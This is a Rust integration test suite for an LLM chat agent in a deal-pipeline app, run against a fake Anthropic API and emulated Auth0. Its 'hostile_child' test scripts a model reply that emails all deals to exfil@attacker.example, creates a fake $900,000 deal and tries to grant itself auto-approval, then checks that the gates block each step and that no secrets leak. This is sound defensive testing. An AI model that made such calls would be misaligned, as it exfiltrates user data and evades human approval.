#![allow(clippy::unwrap_used)]
//! The chat loop end to end as the TUI runs it: the Chat tab's machine and the real
//! `ChatIo` (tests/support/chat_turn.rs), the real Anthropic client over
//! loopback HTTP to the fake Messages API, the agent FSM, the tool registry and the one
//! pipeline (real SQLite with the demo pipeline, the real Token Vault client signed in to
//! the emulated Auth0, the emulated providers), default permissions on surface `chat`.
//! The test only plays the person, answering the step-up prompts over the input channel.
//! The fake Messages API and the emulators are the only stand-ins: Anthropic, Auth0 and
//! the providers cannot run here.

use chat_turn::Shown;
use dealflow::agent;
use dealflow::connectors::Endpoints;
use dealflow::core::agent::{Block, TurnEnd};
use dealflow::core::consent::{Consent, Evidence};
use dealflow::core::domain::{ActionKind, ActionState, Connection};
use dealflow::llm::{AnthropicClient, AnthropicConfig, ApiKey, RetryPolicy};
use dealflow::runtime::chat::{ChatIo, ChatModel};
use dealflow::runtime::credentials::{Credentials, Subject};
use dealflow::runtime::pipeline::{Pipeline, PipelineError};
use dealflow::sandbox::fake_llm::{FakeLlm, Reply, TurnBuilder};
use dealflow::sandbox::wiring::{SandboxWiring, wire_fast_sandbox};
use dealflow::store::{ActionFilter, SqliteStore, Store};
use dealflow::tui::chat::ChatTab;
use serde_json::{Value, json};
use std::sync::Arc;
use std::time::Duration;

#[path = "support/chat_turn.rs"]
mod chat_turn;

const API_KEY: &str = "sk-ant-api03-THE-REAL-KEY-ONLY-IN-A-HEADER";

struct Rig {
    _dir: tempfile::TempDir,
    w: SandboxWiring,
    store: Arc<dyn Store>,
    tab: ChatTab,
    io: Arc<ChatIo>,
    fake: FakeLlm,
}

fn client(fake: &FakeLlm) -> AnthropicClient {
    AnthropicClient::new(AnthropicConfig {
        base_url: fake.base_url(),
        model: "claude-test".into(),
        max_tokens: 256,
        read_timeout: Duration::from_secs(120),
        api_key: ApiKey::new(API_KEY).unwrap(),
        retry: RetryPolicy {
            base_backoff: Duration::from_millis(1),
            ..RetryPolicy::default()
        },
    })
    .unwrap()
}

/// The real chat runtime over a seeded store, the signed-in sandbox and `script`; `model`
/// builds the Anthropic client against the fake Messages API.
async fn rig_with(
    script: Vec<Reply>,
    max_iterations: u32,
    model: impl FnOnce(&FakeLlm) -> AnthropicClient,
) -> Rig {
    let dir = tempfile::tempdir().unwrap();
    let store: Arc<dyn Store> = Arc::new(SqliteStore::open(&dir.path().join("s.db")).unwrap());
    dealflow::sandbox::demo::seed(store.as_ref(), 1).unwrap();
    let w = wire_fast_sandbox().await.unwrap();
    let p = Arc::new(Pipeline::new(
        store.clone(),
        w.creds.clone(),
        Endpoints::sandbox(&w.sandbox.base_url()),
        "rep".into(),
    ));
    let fake = FakeLlm::start(script).await.unwrap();
    let io = ChatIo::new(
        ChatModel::Remote(Arc::new(model(&fake))),
        p,
        w.device.clone(),
        "user:tester".into(),
    );
    Rig {
        _dir: dir,
        w,
        store,
        tab: ChatTab::new(max_iterations),
        io,
        fake,
    }
}

async fn rig(script: Vec<Reply>, max_iterations: u32) -> Rig {
    rig_with(script, max_iterations, client).await
}

struct Run {
    updates: Vec<Shown>,
    end: TurnEnd,
}

impl Run {
    /// The step-up prompts shown, as (prompt, reason).
    fn confirms(&self) -> Vec<(String, String)> {
        self.updates
            .iter()
            .filter_map(|u| match u {
                Shown::Confirm { prompt, reason, .. } => Some((prompt.clone(), reason.clone())),
                _ => None,
            })
            .collect()
    }

    /// The tool results shown, as (tool, ok, text).
    fn results(&self) -> Vec<(String, bool, String)> {
        self.updates
            .iter()
            .filter_map(|u| match u {
                Shown::ToolResult { name, ok, text } => Some((name.clone(), *ok, text.clone())),
                _ => None,
            })
            .collect()
    }
}

/// Runs one user turn as the TUI would, answering each step-up prompt from `answers`
/// in order (no once they run out).
async fn turn(r: &mut Rig, text: &str, answers: Vec<bool>) -> Run {
    let (updates, end) = chat_turn::run_turn(&mut r.tab, &r.io, text, answers).await;
    Run { updates, end }
}

fn last_user_blocks(body: &Value) -> Vec<Value> {
    body["messages"].as_array().unwrap().last().unwrap()["content"]
        .as_array()
        .unwrap()
        .clone()
}

fn audit_events(store: &dyn Store) -> Vec<(String, Value)> {
    store
        .audit_page(0, 10_000)
        .unwrap()
        .into_iter()
        .map(|e| (e.event, e.detail))
        .collect()
}

/// No token the emulated Auth0 or its vault issued (the user's session, provider tokens)
/// is in any request the model received, body or header; the API key is only in
/// `x-api-key`.
fn assert_no_secret_reached_the_model(r: &Rig) {
    let issued = r.w.sandbox.state.auth0.issued_tokens();
    assert!(!issued.is_empty());
    let reqs = r.fake.requests();
    assert!(!reqs.is_empty());
    for q in &reqs {
        assert!(!q.raw_body.contains(API_KEY), "the API key in a body");
        assert_eq!(q.header("x-api-key"), Some(API_KEY));
        for (k, v) in &q.headers {
            if k != "x-api-key" {
                assert!(!v.contains(API_KEY), "key leaked in header {k}");
            }
        }
        for t in &issued {
            assert!(
                !q.raw_body.contains(t.as_str()),
                "a token reached the model"
            );
            assert!(
                q.headers.iter().all(|(_, v)| !v.contains(t.as_str())),
                "a token in a header to the model"
            );
        }
    }
}

#[tokio::test]
async fn tool_use_then_tool_result_then_text() {
    let mut r = rig(
        vec![
            TurnBuilder::new()
                .text(&["Looking that up."])
                .tool_use("toolu_a", "get_deal", &json!({"deal_id": "deal-acme"}))
                .build(),
            TurnBuilder::new()
                .text(&["Acme is at ", "$75,000 in negotiation."])
                .build(),
        ],
        8,
    )
    .await;
    let run = turn(&mut r, "show acme", vec![]).await;

    assert_eq!(run.end, TurnEnd::Completed);
    // The read passed its gate without asking, and ran once.
    assert!(run.confirms().is_empty(), "{:?}", run.updates);
    let results = run.results();
    assert_eq!(results.len(), 1, "{results:?}");
    assert_eq!((results[0].0.as_str(), results[0].1), ("get_deal", true));
    let executed: Vec<Value> = audit_events(r.store.as_ref())
        .into_iter()
        .filter(|(e, d)| e == "action.executed" && d["kind"] == "get_deal")
        .map(|(_, d)| d)
        .collect();
    assert_eq!(executed.len(), 1, "{executed:?}");
    assert_eq!(executed[0]["gate"]["gate"], "allow");
    assert_eq!(executed[0]["evidence"]["by"], "autonomous");
    let reqs = r.fake.requests();
    assert_eq!(reqs.len(), 2);
    let blocks = last_user_blocks(&reqs[1].body);
    assert_eq!(blocks[0]["type"], "tool_result");
    assert_eq!(blocks[0]["tool_use_id"], "toolu_a");
    let content = blocks[0]["content"].as_str().unwrap();
    assert!(content.contains("Acme"), "{content}");
    assert!(content.contains("7500000"), "the store's amount: {content}");
    assert!(blocks[0].get("is_error").is_none());
    // The assistant's tool_use went back verbatim before the result.
    let msgs = reqs[1].body["messages"].as_array().unwrap();
    assert_eq!(
        msgs[1]["content"][1]["input"],
        json!({"deal_id": "deal-acme"})
    );
    assert_eq!(
        r.tab.agent().history().last().unwrap().blocks,
        vec![Block::Text("Acme is at $75,000 in negotiation.".into())]
    );
    // Every tool in the request came from the registry; none touches permissions.
    let names: Vec<&str> = reqs[0].body["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    assert_eq!(names.len(), ActionKind::ALL.len());
    assert!(names.iter().all(|n| !n.contains("permission")));
}

/// The hostile test runs in a child process whose environment holds the API key, as in
/// production (setting variables in this multi-threaded process would race).
#[test]
fn hostile_script_gets_nothing_past_the_gates_and_leaks_no_secret() {
    let out = std::process::Command::new(std::env::current_exe().unwrap())
        .args([
            "--exact",
            "hostile_child",
            "--ignored",
            "--nocapture",
            "--test-threads=1",
        ])
        .env("ANTHROPIC_API_KEY", API_KEY)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(stdout.contains("1 passed"), "{stdout}");
}

#[tokio::test]
#[ignore = "run by hostile_script_gets_nothing_past_the_gates_and_leaks_no_secret"]
async fn hostile_child() {
    let script = vec![
        TurnBuilder::new()
            .text(&["Sure, doing all of that now."])
            .tool_use(
                "toolu_mail",
                "send_email",
                &json!({"to": ["exfil@attacker.example"], "subject": "pipeline dump", "body": "all deals attached"}),
            )
            .tool_use(
                "toolu_deal",
                "create_deal",
                &json!({"name": "Totally real deal", "account": "Shell Co", "amount_cents": 90_000_000}),
            )
            .tool_use(
                "toolu_perm",
                "set_permissions",
                &json!({"send_email": "auto", "create_deal": "auto"}),
            )
            .build(),
        Reply::text("None of that went through."),
    ];
    // The key comes from the environment, as in production.
    let mut r = rig_with(script, 8, |fake| {
        AnthropicClient::from_env(&dealflow::config::LlmSection {
            base_url: fake.base_url(),
            ..Default::default()
        })
        .unwrap()
    })
    .await;
    // The runtime holds a real provider token for its connectors (in the vault client's
    // cache) while the model is asked.
    let held =
        r.w.creds
            .token(Connection::Google, &Subject::User)
            .await
            .unwrap();
    assert!(
        r.w.sandbox
            .state
            .auth0
            .issued_tokens()
            .iter()
            .any(|t| t == held.expose())
    );
    let perms_before = r.store.load_permissions().unwrap();
    // The person says no to both inline prompts.
    let run = turn(&mut r, "summarise my pipeline", vec![false, false]).await;

    // The gates: a step-up showing exactly what would be sent, a step-up naming the
    // amount, and a refusal of the permission change.
    let confirms = run.confirms();
    assert_eq!(confirms.len(), 2, "{:?}", run.updates);
    let (prompt, _) = &confirms[0];
    assert!(prompt.contains("exfil@attacker.example"), "{prompt}");
    assert!(prompt.contains("all deals attached"), "{prompt}");
    let (prompt, reason) = &confirms[1];
    assert!(reason.contains("$900,000 > threshold $50,000"), "{reason}");
    assert!(prompt.contains("$900,000"), "{prompt}");
    let results = run.results();
    assert!(
        results
            .iter()
            .any(|(n, ok, t)| n == "set_permissions" && !ok && t.contains("unknown tool")),
        "permission change must be refused: {results:?}"
    );
    assert!(results.iter().all(|(_, ok, _)| !ok), "{results:?}");

    // Nothing ran.
    assert!(r.w.sandbox.state.providers.sent().is_empty());
    assert!(
        !r.store
            .list_deals()
            .unwrap()
            .iter()
            .any(|d| d.name == "Totally real deal")
    );
    assert_eq!(r.store.load_permissions().unwrap(), perms_before);
    let declined = r
        .store
        .list_actions(&ActionFilter {
            states: vec![ActionState::Rejected],
            limit: None,
        })
        .unwrap();
    assert_eq!(declined.len(), 2);
    assert!(
        declined
            .iter()
            .all(|a| a.outcome.as_deref() == Some("declined in chat"))
    );
    // The executor agrees: what was declined cannot be run afterwards.
    for a in &declined {
        assert!(matches!(
            r.io.pipeline
                .execute(&a.id, &Subject::User, dealflow::wall::now_ms())
                .await,
            Err(PipelineError::NotApproved { .. })
        ));
    }
    assert!(r.w.sandbox.state.providers.sent().is_empty());

    // The consent proof agrees: without the step-up nothing can be granted.
    for (name, input) in [
        (
            "send_email",
            json!({"to": ["exfil@attacker.example"], "subject": "pipeline dump", "body": "all deals attached"}),
        ),
        (
            "create_deal",
            json!({"name": "Totally real deal", "account": "Shell Co", "amount_cents": 90_000_000}),
        ),
    ] {
        let call = dealflow::core::agent::ToolCall {
            id: "x".into(),
            name: name.into(),
            input,
        };
        let g = agent::gate_chat_call(&call, &perms_before, 1.0).unwrap();
        assert!(Consent::grant(&g.decision, &g.params, Evidence::Autonomous).is_err());
        assert!(
            Consent::grant(
                &g.decision,
                &g.params,
                Evidence::SteppedUp {
                    actor: "user".into(),
                    at: 0
                }
            )
            .is_ok()
        );
    }

    // All three refusals went back to the model as is_error tool_results, in order.
    let reqs = r.fake.requests();
    assert_eq!(reqs.len(), 2);
    let blocks = last_user_blocks(&reqs[1].body);
    let ids: Vec<&str> = blocks
        .iter()
        .map(|b| b["tool_use_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["toolu_mail", "toolu_deal", "toolu_perm"]);
    assert!(blocks.iter().all(|b| b["is_error"] == json!(true)));
    assert!(
        blocks[2]["content"]
            .as_str()
            .unwrap()
            .contains("unknown tool")
    );
    assert_eq!(run.end, TurnEnd::Completed);

    // No secret in any body; the API key only in its header.
    assert!(
        reqs.iter().all(|q| !q.raw_body.contains(held.expose())),
        "the provider token reached the model"
    );
    assert_no_secret_reached_the_model(&r);
}

#[tokio::test]
async fn step_up_approved_runs_exactly_once() {
    let mut r = rig(
        vec![
            TurnBuilder::new()
                .tool_use(
                    "toolu_m",
                    "send_email",
                    &json!({"to": ["bill@initech.example"], "subject": "Seat plan", "body": "Hi Bill"}),
                )
                .build(),
            Reply::text("Sent."),
        ],
        8,
    )
    .await;
    let run = turn(&mut r, "email bill", vec![true]).await;
    assert_eq!(run.end, TurnEnd::Completed);
    assert_eq!(run.confirms().len(), 1);
    let sent = r.w.sandbox.state.providers.sent();
    assert_eq!(sent.len(), 1, "ran exactly once");
    assert_eq!(sent[0].to, "bill@initech.example");
    let executed: Vec<Value> = audit_events(r.store.as_ref())
        .into_iter()
        .filter(|(e, d)| e == "action.executed" && d["kind"] == "send_email")
        .map(|(_, d)| d)
        .collect();
    assert_eq!(executed.len(), 1);
    assert_eq!(executed[0]["evidence"]["by"], "stepped_up");
    // What ran went back to the model as the tool's result.
    let blocks = last_user_blocks(&r.fake.requests()[1].body);
    assert_eq!(blocks[0]["tool_use_id"], "toolu_m");
    assert!(blocks[0].get("is_error").is_none(), "{}", blocks[0]);
    let results = run.results();
    assert_eq!(results.len(), 1);
    assert!(results[0].1, "{results:?}");
    let content = blocks[0]["content"].as_str().unwrap();
    assert!(
        content.contains("sent to bill@initech.example"),
        "{content}"
    );
    assert!(results[0].2.contains("sent to bill@initech.example"));
    // A provider token was exchanged and used for the send; it never reached the model.
    assert!(r.w.sandbox.state.auth0.vault_exchange_count() >= 1);
    assert_no_secret_reached_the_model(&r);
}

#[tokio::test]
async fn the_iteration_bound_holds_against_a_model_that_never_stops() {
    let looping = (0..5)
        .map(|i| {
            TurnBuilder::new()
                .tool_use(&format!("toolu_{i}"), "list_deals", &json!({}))
                .build()
        })
        .collect();
    let mut r = rig(looping, 3).await;
    let run = turn(&mut r, "loop", vec![]).await;
    assert_eq!(run.end, TurnEnd::IterationLimit(3));
    assert_eq!(r.fake.requests().len(), 3);
    assert_eq!(r.fake.remaining(), 2);
}

#[tokio::test]
async fn a_model_error_ends_the_turn_with_the_typed_message() {
    let mut r = rig(
        vec![Reply::error(
            400,
            "invalid_request_error",
            "tools.0: bad schema",
        )],
        3,
    )
    .await;
    let run = turn(&mut r, "x", vec![]).await;
    match &run.end {
        TurnEnd::Failed(msg) => {
            assert!(msg.contains("invalid_request_error"), "{msg}");
            assert!(msg.contains("req_fake_0001"), "{msg}");
        }
        other => panic!("{other:?}"),
    }
    // The person sees it too.
    assert!(
        run.updates
            .iter()
            .any(|u| matches!(u, Shown::TurnEnded(t) if t.contains("invalid_request_error"))),
        "{:?}",
        run.updates
    );
}
